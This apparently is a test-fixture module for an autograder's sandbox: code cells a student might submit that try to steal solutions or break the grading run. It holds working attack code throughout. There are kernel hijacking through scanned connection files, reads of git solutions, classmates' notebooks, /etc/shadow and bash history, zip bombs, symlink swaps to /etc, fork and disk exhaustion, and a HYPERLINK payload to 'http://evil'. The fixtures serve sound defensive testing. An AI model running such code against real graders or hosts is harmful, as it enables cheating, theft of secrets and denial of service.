"""Attacks on the grader, as code cells a student could submit (issue 19).

Each *escape* starts from the untouched exercise notebook (stubs only) and tries to get hold of
the solution: if it succeeds it runs what it found, so it earns full marks exactly when its
escape works. Each *stopper* tries to end, hang or swamp the whole run. The test that grades
them is tests/test_sandbox.py; ``{placeholders}`` are filled in there.
"""

# Takes a solution's text (a notebook's JSON or a py:percent source) and defines its functions here.
STEAL = r'''
def _take(text):
    import ast, json
    try:
        nb = json.loads(text)
        src = "\n".join("".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                        for c in nb["cells"] if c["cell_type"] == "code")
    except Exception:
        src = text
    src = "\n".join(l for l in src.splitlines() if not l.lstrip().startswith(("%", "!")))
    tree = ast.parse(src)
    body = [n for n in tree.body if isinstance(n, (ast.FunctionDef, ast.Import, ast.ImportFrom))]
    found = {}
    exec(compile(ast.Module(body, []), "stolen", "exec"), found)
    wanted = {k: v for k, v in found.items() if k in _WANT and callable(v)}
    if wanted and ("add" not in wanted or wanted["add"](2, 3) == 5):
        _stolen.update(wanted)
        return True
    return False

_stolen = {}
_WANT = {functions}
'''

# Put before every grade cell: the stolen functions, if any, replace the stubs.
USE = "globals().update(_stolen)"

ESCAPES = {
    # 1. another kernel over the network (or its connection file): ask it for its functions' source
    "network_kernel": r'''
import glob, json, os, time
def _connection_files():
    found = set()
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            except OSError:
                continue
            found.update(args[i + 1].decode(errors="replace") for i, a in enumerate(args[:-1]) if a == b"-f")
    for pattern in ("/tmp/**/*.json", "/run/**/*.json", "/root/**/*.json", "/home/**/*.json", "/var/tmp/**/*.json",
                    "{grader_tmp}/**/*.json"):
        found.update(glob.glob(pattern, recursive=True))
    mine = os.path.realpath(os.environ.get("JPY_CONNECTION_FILE", "/run/kernel/connection.json"))
    return [f for f in found if os.path.realpath(f) not in (mine, "/run/kernel/connection.json")]

def _ask(info):
    from jupyter_client import BlockingKernelClient
    kc = BlockingKernelClient()
    kc.load_connection_info(info)
    kc.start_channels()
    out = []
    try:
        kc.execute_interactive("import inspect\nprint(''.join(inspect.getsource(f) for f in (add, square, double)))",
                               timeout=10, output_hook=lambda m: out.append(m["content"].get("text", "")))
    finally:
        kc.stop_channels()
    return "".join(out)

_deadline = time.monotonic() + 25
while not _stolen and time.monotonic() < _deadline:
    for f in _connection_files():
        try:
            _take(_ask(json.load(open(f))))
        except Exception:
            pass
        if _stolen:
            break
    time.sleep(1)
''',
    # 2. the solutions from the repository: its files, or git's objects, found through the mount table
    "git_solutions": r'''
import os, subprocess
_roots = {"{course}"}
for line in open("/proc/self/mountinfo"):
    point = line.split()[4]
    while point not in ("", "/"):
        _roots.add(point)
        point = os.path.dirname(point)
for root in sorted(_roots):
    for rel in ("solutions/{stem}.py", "solutions/{stem}.ipynb"):
        try:
            if _take(open(os.path.join(root, rel)).read()):
                break
        except Exception:
            pass
        try:
            shown = subprocess.run(["git", "-C", root, "show", f"HEAD:{rel}"], capture_output=True, text=True, timeout=20)
            if shown.returncode == 0 and _take(shown.stdout):
                break
        except Exception:
            pass
''',
    # 3. classmates' notebooks and earlier feedback folders (hold correct answers, maybe hidden tests)
    "classmates": r'''
import glob
for pattern in ("{subs}/**/*.ipynb", "{feedback}/**/*.ipynb", "/tmp/**/*.ipynb", "/home/**/*.ipynb",
                "{grader_tmp}/**/*.ipynb"):
    for f in glob.glob(pattern, recursive=True):
        try:
            if _take(open(f).read()):
                break
        except Exception:
            pass
    if _stolen:
        break
''',
    # 5. /proc/sys writable (as root: kernel.core_pattern runs a program on the host): opened, never written
    "proc_sys": r'''
import os
for p in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"):
    try:
        os.close(os.open(p, os.O_WRONLY))
    except OSError:
        continue
    _take("def add(a, b):\n    return a + b\n\ndef square(x):\n    return x * x\n\nimport torch\n\ndef double(t):\n    return 2 * t\n")
    break
''',
    # the grader's own files and the host's secrets (anything outside the allow-list)
    "host_files": r'''
import os
for p in ("{grading_py}", "/etc/shadow", "/root/.bash_history", "{course}/solutions", "{course}/.git"):
    if os.path.exists(p):
        _take("def add(a, b):\n    return a + b\n\ndef square(x):\n    return x * x\n\nimport torch\n\ndef double(t):\n    return 2 * t\n")
        break
''',
}

# Each ends (or hangs, or swamps) the run on a weak grader. Planted while the hidden tests of "add" run
# (stopper_cell wraps the student's add so that its first call plants it), so the grader reads it
# among that grade cell's records.
STOPPERS = {
    "record_without_value": r'''
import os, torch
torch.save({"name": "add(-1, 1)"}, os.path.join(os.environ["COURSE_GRADING_RECORDS"], "0-000000.pt"))
''',
    "sparse_tensor": r'''
import os, torch
torch.save({"name": "add(-1, 1)", "value": torch.eye(3).to_sparse(), "rtol": 1e-4, "atol": 1e-5, "message": ""},
           os.path.join(os.environ["COURSE_GRADING_RECORDS"], "0-000000.pt"))
''',
    "meta_tensor": r'''
import os, torch
torch.save({"name": "add(-1, 1)", "value": torch.empty(10**9, device="meta"), "rtol": 1e-4, "atol": 1e-5,
            "message": ""}, os.path.join(os.environ["COURSE_GRADING_RECORDS"], "0-000000.pt"))
''',
    "deep_list": r'''
import os, sys, torch
sys.setrecursionlimit(20000)
v = 0
for _ in range(3000):
    v = [v]
torch.save({"name": "add(-1, 1)", "value": v, "rtol": 1e-4, "atol": 1e-5, "message": ""},
           os.path.join(os.environ["COURSE_GRADING_RECORDS"], "0-000000.pt"))
''',
    "named_pipe": r'''
import os
os.mkfifo(os.path.join(os.environ["COURSE_GRADING_RECORDS"], "0-000000.pt"))
''',
    "zip_bomb": r'''
import os, zipfile
with zipfile.ZipFile(os.path.join(os.environ["COURSE_GRADING_RECORDS"], "0-000000.pt"), "w",
                     zipfile.ZIP_DEFLATED) as z:
    with z.open("archive/data.pkl", "w", force_zip64=True) as f:
        block = bytes(2**20)
        for _ in range(300):
            f.write(block)
''',
    "many_records": r'''
import os
folder = os.environ["COURSE_GRADING_RECORDS"]
for i in range(30000):
    open(os.path.join(folder, f"9-{i:06d}.pt"), "w").close()
''',
    "symlinked_records": r'''
import os, shutil
folder = os.environ["COURSE_GRADING_RECORDS"]
shutil.rmtree(folder)
os.symlink("/proc/self/root/etc", folder)
''',
    "control_characters": r'''
raise ValueError("\x1b[2J\x1b[31m=HYPERLINK(\"http://evil\")\x07\r")
''',
}


def stopper_cell(name: str, function: str = "add") -> str:
    """A cell that wraps ``function`` so that its first call (in the hidden tests) plants stopper ``name``."""
    import textwrap

    body = textwrap.indent(STOPPERS[name].strip("\n"), " " * 8)
    return (f"_real_{function} = {function}\n_planted = False\n\n\ndef {function}(*args, **kwargs):\n"
            f"    global _planted\n    if not _planted:\n        _planted = True\n{body}\n"
            f"    return _real_{function}(*args, **kwargs)\n")


# Per-submission limits: each earns full marks only if the limit did not hold.
LIMITS = {
    "two_children_memory": r'''
import subprocess, sys, time
code = "b = bytearray(600 * 2**20)\nb[::4096] = b'1' * len(b[::4096])\nprint('ok', flush=True)\nimport time; time.sleep(60)"
kids = [subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True) for _ in range(2)]
ok = 0
for k in kids:
    try:
        ok += k.stdout.readline().strip() == "ok"
    except Exception:
        pass
time.sleep(1)
if ok == 2 and all(k.poll() is None for k in kids):
    _take("def add(a, b):\n    return a + b\n\ndef square(x):\n    return x * x\n\nimport torch\n\ndef double(t):\n    return 2 * t\n")
for k in kids:
    k.kill()
''',
    "many_processes": r'''
import subprocess
kids = []
try:
    for _ in range(300):
        kids.append(subprocess.Popen(["sleep", "60"]))
except OSError:
    pass
if len(kids) >= 300:
    _take("def add(a, b):\n    return a + b\n\ndef square(x):\n    return x * x\n\nimport torch\n\ndef double(t):\n    return 2 * t\n")
for k in kids:
    k.kill()
''',
    "disk_filler": r'''
import os
written = 0
try:
    for folder in (os.path.expanduser("~"), "/tmp"):
        for i in range(20):
            with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                f.write(bytes(10 * 2**20))
            written += 10
except OSError:
    pass
if written >= 400:
    _take("def add(a, b):\n    return a + b\n\ndef square(x):\n    return x * x\n\nimport torch\n\ndef double(t):\n    return 2 * t\n")
''',
}
